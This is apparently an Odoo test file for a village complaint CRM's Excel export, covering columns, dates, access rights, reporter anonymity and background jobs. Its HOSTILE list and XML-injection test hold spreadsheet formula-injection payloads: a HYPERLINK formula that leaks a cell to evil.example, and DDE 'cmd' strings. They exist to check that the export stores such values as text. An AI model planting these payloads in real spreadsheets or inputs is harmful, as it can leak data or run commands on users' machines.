# Copyright 2026 Kelurahan CRM contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import re
from datetime import date, datetime
from unittest.mock import patch

from odoo.exceptions import AccessError, UserError
from odoo.tests import Form, tagged

from ..models import kelurahan_report_engine as report_engine
from ..models.kelurahan_report_engine import COMPLAINT_COLUMNS
from ..models.kelurahan_report_summary import KelurahanReportEngine
from ..tools import xlsx_stream as xs
from .report_common import DAY, ReportCase, wib, xlsx_members

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1,"klik")',
    "+62 812 000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@tagged("post_install", "-at_install")
class TestReportExport(ReportCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.done = cls.make_ticket(
            name="Sampah menumpuk",
            category_id=cls.category_sampah.id,
            channel_id=cls.channel_rw.id,
            user_id=cls.user_officer.id,
        )
        cls.done.write(
            {
                "date_followup": wib(DAY.year, DAY.month, DAY.day, 11, 0),
                "stage_id": cls.env.ref("kelurahan_crm.stage_verify").id,
            }
        )
        cls.env["kelurahan.disposition"].create(
            {"ticket_id": cls.done.id, "agency_id": cls.agency.id}
        )
        cls.done.write(
            {
                "stage_id": cls.stage_done.id,
                "followup_note": "Sudah diangkut",
                "date_done": wib(DAY.year, DAY.month, DAY.day, 15, 0),
            }
        )
        cls.open_a = cls.make_ticket(reporter_name="Siti Aminah")
        cls.in_rw_b = cls.make_ticket(rw_id=cls.rw_b.id, rt_id=False)
        cls.other_day = cls.make_ticket(
            date_reported=wib(DAY.year, DAY.month, DAY.day - 1, 23, 0)
        )

    def test_sheets_headers_rows_and_dates(self):
        workbook, data, count = self.export(self.user_officer)
        self.assertEqual(workbook.sheetnames, ["Pengaduan", "Disposisi", "Ringkasan"])
        sheet = workbook["Pengaduan"]
        headers = [cell.value for cell in sheet[1]]
        self.assertEqual(headers, [column[0] for column in COMPLAINT_COLUMNS])
        self.assertEqual(count, 3)
        self.assertEqual(sheet.max_row, 4, "header + 3 complaints of the day")
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertTrue(sheet.auto_filter.ref)
        by_number = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
        self.assertNotIn(self.other_day.number, by_number, "previous day (WIB)")
        row = by_number[self.done.number]
        col = {h: i for i, h in enumerate(headers)}
        reported = row[col["Tgl Masuk"]]
        self.assertTrue(reported.is_date)
        # Stored in UTC, written in Asia/Jakarta wall-clock time.
        self.assertEqual(reported.value, datetime(2026, 3, 10, 9, 30))
        self.assertEqual(row[col["Tgl Selesai"]].value, datetime(2026, 3, 10, 15, 0))
        self.assertTrue(row[col["Tgl TL"]].is_date)
        self.assertEqual(row[col["Status"]].value, "Selesai")
        self.assertEqual(row[col["Dalam Tenggat"]].value, "Ya")
        self.assertEqual(row[col["Dinas tujuan"]].value, self.agency.name)
        self.assertEqual(row[col["Dukungan"]].value, 1)
        self.assertEqual(row[col["RW"]].value, self.rw_a.name)
        self.assertEqual(row[col["Uraian"]].value, "Lubang besar di depan masjid.")
        self.assertIsInstance(row[col["Waktu Penyelesaian (hari kerja)"]].value, float)
        self.assertIsNone(by_number[self.open_a.number][col["Tgl Selesai"]].value)

    def test_summary_sheet_and_native_charts(self):
        workbook, data, _count = self.export(self.user_officer)
        sheet = workbook["Ringkasan"]
        values = {
            row[0].value: row[1].value
            for row in sheet.iter_rows(min_row=1)
            if row[0].value
        }
        self.assertEqual(values["Jumlah pengaduan"], 3)
        self.assertEqual(values["Selesai dalam tenggat (%)"], 1.0)
        members = xlsx_members(data)
        charts = [v for k, v in members.items() if k.startswith("xl/charts/chart")]
        self.assertEqual(len(charts), 2)
        self.assertTrue(any("<c:barChart>" in chart for chart in charts))
        self.assertTrue(any("<c:pieChart>" in chart for chart in charts))

    def test_formula_injection_is_text(self):
        tickets = self.env["helpdesk.ticket"]
        for value in HOSTILE:
            tickets |= self.make_ticket(
                description=value, location_address=value, reporter_name=value
            )
        workbook, data, _count = self.export(self.user_officer)
        sheet = workbook["Pengaduan"]
        headers = [cell.value for cell in sheet[1]]
        location = headers.index("Lokasi")
        seen = set()
        # A bare CR is stored as a line break (XML end-of-line rule); still text.
        expected = {value.replace("\r", "\n"): value for value in HOSTILE}
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", cell.coordinate)
            value = row[location].value
            if value in expected:
                seen.add(expected[value])
                self.assertEqual(row[location].data_type, "s")
                self.assertTrue(row[location].quotePrefix, repr(value))
        self.assertEqual(seen, set(HOSTILE), "values kept exactly, as text")
        # No formula element anywhere in the sheet XML.
        for name, xml in xlsx_members(data).items():
            if name.startswith("xl/worksheets/"):
                self.assertIsNone(re.search(r"<f[ >]", xml), name)

    def test_xml_shaped_text_is_text(self):
        """xlsxwriter would write a value shaped like <r>…</r> as raw XML: a location
        typed by a resident must not add a formula cell next to it."""
        payload = (
            '<r><t>Jl. Mawar</t></r></is></c><c r="Z2"><f>HYPERLINK("http://evil.'
            'example")</f></c><c r="Y2" t="inlineStr"><is><r><t>x</t></r>'
        )
        self.make_ticket(location_address=payload, reporter_name=payload)
        workbook, data, _count = self.export(self.user_officer)
        sheet = workbook["Pengaduan"]
        headers = [cell.value for cell in sheet[1]]
        locations = [row[headers.index("Lokasi")] for row in sheet.iter_rows(min_row=2)]
        self.assertIn(payload, [cell.value for cell in locations])
        self.assertEqual(sheet.max_column, len(COMPLAINT_COLUMNS))
        for name, xml in xlsx_members(data).items():
            if name.startswith("xl/worksheets/"):
                self.assertIsNone(re.search(r"<f[ >]", xml), name)

    def test_rows_stream_survives_an_interleaved_query(self):
        """Rows come from a server-side cursor a few at a time; a query on the same
        database cursor between two fetches neither fails nor shortens the
        sheet."""
        engine = self.env["kelurahan.report.engine"].with_user(self.user_officer)
        filters = self.filters()
        expected = list(engine._kel_complaint_rows(filters))
        self.assertGreater(len(expected), 2)
        with patch.object(report_engine, "STREAM_ROWS", 1):
            self.assertEqual(list(engine._kel_complaint_rows(filters)), expected)
            rows = engine._kel_complaint_rows(filters)
            first = next(rows)
            self.env.cr.execute("SELECT 1")
            self.env.cr.fetchall()
            self.assertEqual([first, *rows], expected)

    def test_rw_officer_exports_only_their_rw(self):
        workbook, _data, count = self.export(self.user_rw)
        numbers = [row[0].value for row in workbook["Pengaduan"].iter_rows(min_row=2)]
        self.assertEqual(count, 2)
        self.assertEqual(set(numbers), {self.done.number, self.open_a.number})
        self.assertEqual(workbook["Ringkasan"]["B4"].value, 2)
        # Asking for RW B explicitly gives nothing, not RW B's complaints.
        workbook, _data, count = self.export(
            self.user_rw, self.filters(rw_ids=self.rw_b.ids)
        )
        self.assertEqual(count, 0)
        workbook, _data, count = self.export(self.user_officer)
        self.assertEqual(count, 3)

    def test_anonymous_reporter_and_nik_never_exported(self):
        secret = self.make_ticket(
            reporter_name="Budi Rahasia",
            reporter_nik="3174051208900001",
            is_anonymous=True,
        )
        for user in (self.user_officer, self.user_lurah, self.user_rw):
            workbook, data, _count = self.export(user)
            text = "\n".join(xlsx_members(data).values())
            self.assertNotIn("Budi Rahasia", text)
            self.assertNotIn("3174051208900001", text)
            self.assertNotIn("NIK", text)
            sheet = workbook["Pengaduan"]
            col = [c.value for c in sheet[1]].index("Pelapor")
            reporters = {row[0].value: row[col].value for row in sheet.iter_rows(2)}
            self.assertEqual(reporters[secret.number], "Anonim")
            self.assertEqual(reporters[self.open_a.number], "Siti Aminah")

    def test_empty_result_is_a_valid_workbook(self):
        workbook, _data, count = self.export(
            self.user_officer, self.filters(date(2025, 1, 1), date(2025, 1, 2))
        )
        self.assertEqual(count, 0)
        self.assertEqual(workbook.sheetnames, ["Pengaduan", "Disposisi", "Ringkasan"])
        self.assertIn("tidak ada data", workbook["Pengaduan"]["A2"].value.lower())
        self.assertIn("tidak ada data", workbook["Ringkasan"]["A4"].value.lower())

    def test_invalid_period_message(self):
        wizard = Form(self.env["kelurahan.export.wizard"].with_user(self.user_officer))
        wizard.period = "custom"
        wizard.date_from = date(2026, 3, 10)
        wizard.date_to = date(2026, 3, 1)
        record = wizard.save()
        with self.assertRaisesRegex(UserError, "ends .* before it starts"):
            record.action_export()
        with self.assertRaises(UserError):
            self.env["kelurahan.report.engine"]._kel_export_attachment(
                self.filters(date(2026, 3, 10), date(2026, 3, 1))
            )

    def test_wizard_downloads_own_file_only(self):
        wizard = (
            self.env["kelurahan.export.wizard"]
            .with_user(self.user_officer)
            .create({"period": "custom", "date_from": DAY, "date_to": DAY})
        )
        action = wizard.action_export()
        self.assertEqual(action["type"], "ir.actions.act_url")
        job = self.env["kelurahan.export.job"].search(
            [("user_id", "=", self.user_officer.id)]
        )
        self.assertEqual(job.state, "done")
        self.assertEqual(job.row_count, 3)
        self.assertIn(str(job.attachment_id.id), action["url"])
        job.attachment_id.with_user(self.user_officer).check("read")
        with self.assertRaises(AccessError):
            job.attachment_id.with_user(self.user_rw).check("read")
        with self.assertRaises(AccessError):
            job.with_user(self.user_rw).check_access("read")

    def test_large_export_runs_in_background_and_notifies(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "kelurahan_crm.export_background_rows", "1"
        )
        wizard = (
            self.env["kelurahan.export.wizard"]
            .with_user(self.user_rw)
            .create({"period": "custom", "date_from": DAY, "date_to": DAY})
        )
        action = wizard.action_export()
        self.assertEqual(action["tag"], "display_notification")
        job = self.env["kelurahan.export.job"].search(
            [("user_id", "=", self.user_rw.id)]
        )
        self.assertEqual(job.state, "pending")
        self.env["kelurahan.export.job"]._cron_run_pending()
        self.assertEqual(job.state, "done")
        self.assertEqual(job.row_count, 2, "RW officer's rights in the background")
        message = self.env["mail.message"].search(
            [
                ("model", "=", job._name),
                ("res_id", "=", job.id),
                ("partner_ids", "in", self.user_rw.partner_id.ids),
            ]
        )
        self.assertTrue(message)
        self.assertIn("is ready", message.body)

    def test_portal_user_cannot_export(self):
        with self.assertRaises(AccessError):
            self.env["kelurahan.export.wizard"].with_user(self.user_portal).create(
                {"period": "today"}
            )

    def test_generic_orm_provider(self):
        workbook, _data, _count = self.export(self.user_officer, self.filters())
        self.assertEqual(workbook.sheetnames, ["Pengaduan", "Disposisi", "Ringkasan"])
        # The generic (ORM) provider, on complaints, under an RW officer's rules.
        engine = self.env["kelurahan.report.engine"].with_user(self.user_rw)
        columns = [
            ("number", xs.TEXT),
            ("rw_id", xs.TEXT),
            ("kel_state", xs.TEXT),
            ("date_reported", xs.DATETIME),
            ("is_within_deadline", xs.TEXT),
        ]
        domain = [
            ("date_reported", ">=", wib(2026, 3, 10, 0, 0)),
            ("date_reported", "<", wib(2026, 3, 11, 0, 0)),
        ]
        rows = list(engine._kel_orm_rows("helpdesk.ticket", domain, columns))
        self.assertEqual(
            sorted(row[0] for row in rows),
            sorted([self.done.number, self.open_a.number]),
        )
        done = next(row for row in rows if row[0] == self.done.number)
        self.assertEqual(
            done[1:], (self.rw_a.name, "Selesai", datetime(2026, 3, 10, 9, 30), "Ya")
        )
        provider = engine._kel_orm_provider(
            "helpdesk.ticket",
            "Uji",
            "date_reported",
            [("No.", "number", xs.TEXT, 10)],
            self.filters(),
        )
        self.assertEqual(len(list(provider["rows"]())), 2)

    def test_kpi_summary_and_indicators(self):
        summary = self.env["kelurahan.kpi.summary"].with_user(self.user_officer)
        wizard = summary.create({"date_from": DAY, "date_to": DAY})
        html = str(wizard.summary_html)
        self.assertIn(self.channel_wa.name, html)
        self.assertIn(self.channel_rw.name, html)
        engine = self.env["kelurahan.report.engine"]
        indicators = engine._kel_indicators(self.filters())
        self.assertEqual(set(indicators["shares"]), {
            "kecepatan", "keramahan", "akses_informasi", "sarana_teknologi",
            "responsivitas_pengaduan",
        })  # fmt: skip
        # The survey addon replaces the source when installed (it is in the
        # standard run): its figures are checked in kelurahan_survey; here which
        # source answers, and the complaints source itself in every run.
        survey = self.env["ir.module.module"]._get("kelurahan_survey")
        expected = "survey" if survey.state == "installed" else "complaints"
        self.assertEqual(indicators["source"], expected)
        complaints = KelurahanReportEngine._kel_indicators(engine, self.filters())
        self.assertEqual(complaints["source"], "complaints")
        self.assertEqual(complaints["shares"]["kecepatan"], 100.0)
        self.assertIsNone(complaints["shares"]["keramahan"])
